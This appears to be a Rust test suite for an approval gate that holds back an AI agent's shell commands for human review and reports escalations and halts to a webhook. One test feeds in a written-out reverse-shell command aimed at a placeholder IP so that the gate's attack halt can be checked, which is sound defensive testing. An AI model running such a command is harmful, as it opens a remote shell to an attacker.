//! What a notification says, and what it must not say.

use super::support::*;
use crate::gate::Served;
use haltgate::proto::v1 as pb;
use haltgate::proto::v1::approval_gate_client::ApprovalGateClient;
use serde_json::json;

#[tokio::test]
async fn a_receiver_is_told_who_asks_what_signed_and_with_the_way_to_the_console() {
    let receiver = receiver().await;
    let folder = std::sync::Arc::new(tempfile::tempdir().unwrap());
    std::fs::write(folder.path().join("secret"), format!("{SECRET}\n")).unwrap();
    std::fs::write(folder.path().join("token"), "t-0123").unwrap();
    write_policy(
        folder.path(),
        &json!({ "pager": {
            "url": url(&receiver), "headers": { "x-team": "web", "authorization": { "key_file": "token", "scheme": "Bearer" } },
        } }),
    );
    let served = serve_in(folder);
    let opened = served.run(&["sessions", "open", "--session", "s", "--label", "owning_command=review"]);
    assert_eq!(opened.code, 0, "{opened:?}");
    let escalation = raise(&served, "mend \u{202e} it");
    let answered = served.run(&["answer", &escalation, "reject", "--comment", "not today"]);
    assert_eq!(answered.code, 0, "{answered:?}");
    receiver.arrived(2).await;
    let [raised, answered] = <[_; 2]>::try_from(receiver.seen()).unwrap();
    for seen in [&raised, &answered] {
        verify(seen, SECRET);
        assert_eq!(seen.path, "/hook?room=7");
        assert_eq!(seen.header("content-type"), Some("application/json"));
        assert_eq!(
            (seen.header("x-team"), seen.header("authorization")),
            (Some("web"), Some("Bearer t-0123"))
        );
        assert_eq!(seen.header("haltgate-event"), seen.body["type"].as_str());
        assert_eq!(seen.header("idempotency-key"), seen.body["id"].as_str());
        let body = &seen.body;
        assert_eq!((&body["project"], &body["sessionId"]), (&json!("default"), &json!("s")));
        assert_eq!(body["labels"], json!({ "owning_command": "review" }));
        assert_eq!(body["consoleUrl"], "https://gate.example/console#/now?project=default");
        assert_eq!(body["escalation"]["escalationId"], json!(escalation));
        assert_eq!(body["escalation"]["call"]["shell"]["command"], "mend \u{202e} it", "as it was written");
        let framed = body["escalation"]["prompt"]["framedLines"].to_string();
        assert!(framed.contains("mend") && !framed.contains('\u{202e}'), "as a human may read it: {framed}");
        assert!(body["occurredAt"].as_str().unwrap().ends_with('Z'), "{body}");
    }
    assert_ne!(raised.body["id"], answered.body["id"]);
    assert_eq!(
        (&raised.body["type"], &answered.body["type"]),
        (&json!("escalation.raised"), &json!("escalation.answered"))
    );
    assert_eq!(answered.body["escalation"]["answer"]["comment"], "not today");
    assert_eq!(answered.body["escalation"]["state"], "ESCALATION_STATE_REJECTED");
}

#[tokio::test]
async fn a_notification_says_where_a_feed_of_the_project_goes_on_behind_it() {
    let receiver = receiver().await;
    let served = serve(&json!({ "pager": { "url": url(&receiver) } }));
    raise(&served, "one");
    raise(&served, "two");
    receiver.arrived(2).await;
    let after = receiver.seen()[0].body["cursor"].as_str().unwrap().to_owned();
    let mut client = ApprovalGateClient::connect(format!("http://{}", served.address)).await.unwrap();
    let request = pb::StreamEscalationsRequest { after, ..Default::default() };
    let mut feed = client.stream_escalations(request).await.unwrap().into_inner();
    let next = feed.message().await.unwrap().unwrap();
    let Some(pb::stream_escalations_response::Event::Raised(raised)) = next.event else { panic!("{next:?}") };
    assert_eq!(receiver.seen()[1].body["escalation"]["escalationId"], json!(raised.escalation_id));
}

#[tokio::test]
async fn secrets_in_what_an_agent_sent_are_told_to_nobody() {
    let receiver = receiver().await;
    let served = serve(&json!({ "pager": { "url": url(&receiver) } }));
    let token = "ghp_0123456789abcdefghijABCDEFGHIJ012345";
    raise(&served, &format!("mend --token {token}"));
    receiver.arrived(1).await;
    let seen = &receiver.seen()[0];
    let text = String::from_utf8(seen.raw.clone()).unwrap();
    assert!(text.contains("mend --token") && !text.contains(token), "{text}");
    assert!(!text.contains(SECRET) && !served.log().contains(SECRET) && !served.log().contains("room=7"));
}

/// A server whose rungs rate, so that an attack is one.
fn attacked(receiver: &crate::server::Server, events: &serde_json::Value) -> Served {
    let folder = std::sync::Arc::new(tempfile::tempdir().unwrap());
    std::fs::write(folder.path().join("secret"), SECRET).unwrap();
    let text =
        policy(&json!({ "pager": { "url": url(receiver), "events": events } })).replace("manual", "assisted");
    std::fs::write(folder.path().join("haltgate.jsonc"), text).unwrap();
    serve_in(folder)
}

#[tokio::test]
async fn a_halt_is_told_and_its_end_too_and_nothing_that_was_not_asked_for() {
    let receiver = receiver().await;
    let served = attacked(&receiver, &json!(["halts"]));
    assert_eq!(served.run(&["decide", "--session", "s", "--", "frobnicate"]).code, 3, "an escalation");
    let attack = "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1";
    let halted = served.run(&["decide", "--session", "s", "--", attack]);
    assert_eq!(halted.code, 4, "{halted:?}");
    receiver.arrived(2).await;
    assert_eq!(all_said(&receiver), [format!("halt.raised {attack}"), format!("halt.expired {attack}")]);
    let told = &receiver.seen()[1].body;
    assert_eq!(told["halt"]["state"], "ATTACK_HALT_STATE_UNATTENDED");
}

#[tokio::test]
async fn a_receiver_of_one_project_hears_of_no_other() {
    let receiver = receiver().await;
    let served = serve(
        &json!({ "pager": { "url": url(&receiver), "project": "shop", "events": ["escalation.raised"] } }),
    );
    raise(&served, "elsewhere");
    let asked = served.run(&["decide", "--project", "shop", "--", "here"]);
    assert_eq!(asked.code, 3, "{asked:?}");
    receiver.arrived(1).await;
    assert_eq!(all_said(&receiver), ["escalation.raised here"]);
    assert_eq!(receiver.seen()[0].body["project"], "shop");
}
